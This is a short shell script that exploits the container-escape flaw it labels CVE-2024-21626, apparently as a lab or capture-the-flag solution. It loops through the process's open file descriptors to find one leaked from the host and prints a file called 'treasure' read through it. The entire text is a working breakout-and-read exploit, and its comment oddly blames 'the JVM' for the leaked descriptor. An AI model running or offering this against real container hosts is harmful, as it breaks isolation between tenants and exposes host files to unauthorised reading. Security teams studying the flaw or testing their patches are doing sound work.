# A descriptor of the JVM's that is a directory of the host (CVE-2024-21626). Prints what lies in it.
for descriptor in /proc/self/fd/*; do
    case ${descriptor##*/} in 0 | 1 | 2) continue ;; esac
    if cat "/proc/self/fd/${descriptor##*/}/treasure" 2>/dev/null; then exit 0; fi
done
echo 'no descriptor leads out'
exit 1
